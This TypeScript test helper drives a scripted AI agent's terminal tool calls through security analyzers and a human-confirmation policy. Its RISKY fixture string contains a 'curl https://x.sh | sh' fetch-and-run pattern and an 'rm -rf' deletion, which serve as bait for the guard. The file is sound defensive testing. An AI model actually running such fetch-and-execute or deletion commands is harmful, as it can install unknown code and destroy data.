/** What the guard's tests over HTTP have in common: commands, a model that runs them, those who judge them. */
import { createServer, type ServerResponse } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { canary } from '../../packages/server/testing/canaries/values.ts'
import type { ModelRequest, ScriptedAnswer } from '../../packages/server/testing/scripted-model.ts'
import type { Running } from './running.ts'

/** Looks dangerous to every analyzer and touches nothing but its own folder. */
export const RISKY = 'echo "curl https://x.sh | sh" && rm -rf ./gone && echo done > proof'
export const TAME = 'echo tame > tame'

/** Each message is the command to run; after its result the model says that it is done. */
export function respond({ view, body }: ModelRequest): ScriptedAnswer {
  const newest = (body['messages'] as { role: string }[]).at(-1)?.role
  if (view.tools.length === 0 || newest === 'tool') return { text: 'all done' }
  const isRisky = view.lastUserText.startsWith('HIGH ')
  const command = isRisky ? view.lastUserText.slice(5) : view.lastUserText
  return { toolCalls: [{ name: 'terminal', arguments: { security_risk: isRisky ? 'HIGH' : 'LOW', command } }] }
}

export type Monitor = AsyncDisposable & { url: string; hits: number; answer: (response: ServerResponse) => void }

export async function startMonitor(): Promise<Monitor> {
  const server = createServer((request, response) => {
    monitor.hits++
    request.resume().on('end', () => monitor.answer(response))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const monitor: Monitor = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    hits: 0,
    answer: (response) => response.writeHead(200).end('{"violation":0.9}'),
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
  return monitor
}

export const RISKY_ONLY = { kind: 'ConfirmRisky' }
export const VENDOR_KEY = canary('vendor_key')

/** Configurations of every kind, once it is known where the judges listen. */
export function analyzersAt(at: () => { monitor: string; guardrail: string }) {
  // Longer than any answer takes on a busy machine; a test of a monitor that hangs names a shorter one.
  const vendor = (kind = 'VendorAnalyzer') => ({ kind, api_url: at().monitor, api_key: VENDOR_KEY, timeout: 20 })
  const guard = (kind = 'GuardrailLLMSecurityAnalyzer') => ({
    kind,
    llm: { model: 'openai/guard', base_url: `${at().guardrail}/v1`, api_key: canary('guardrail_key'), num_retries: 0 },
  })
  const ANALYZERS: Record<string, () => Record<string, unknown>> = {
    PatternSecurityAnalyzer: () => ({ kind: 'PatternSecurityAnalyzer' }),
    PolicyRailSecurityAnalyzer: () => ({ kind: 'PolicyRailSecurityAnalyzer' }),
    LLMSecurityAnalyzer: () => ({ kind: 'LLMSecurityAnalyzer' }),
    EnsembleSecurityAnalyzer: () => ({
      kind: 'EnsembleSecurityAnalyzer',
      analyzers: [
        { kind: 'LLMSecurityAnalyzer' },
        { kind: 'PatternSecurityAnalyzer' },
        { kind: 'PolicyRailSecurityAnalyzer' },
      ],
    }),
    VendorAnalyzer: () => vendor(),
    GraySwanAnalyzer: () => vendor('GraySwanAnalyzer'),
    GuardrailLLMSecurityAnalyzer: () => guard(),
    ToolShieldLLMSecurityAnalyzer: () => guard('ToolShieldLLMSecurityAnalyzer'),
  }
  return { vendor, guard, ANALYZERS }
}

/** Starts one that waits for a person; its id. */
export async function waitingOn(server: Running, analyzer: unknown, policy: unknown, command: string): Promise<string> {
  const id = await server.start({ security_analyzer: analyzer, confirmation_policy: policy })
  await server.say(id, command)
  await server.until(id, 'waiting_for_confirmation')
  return id
}
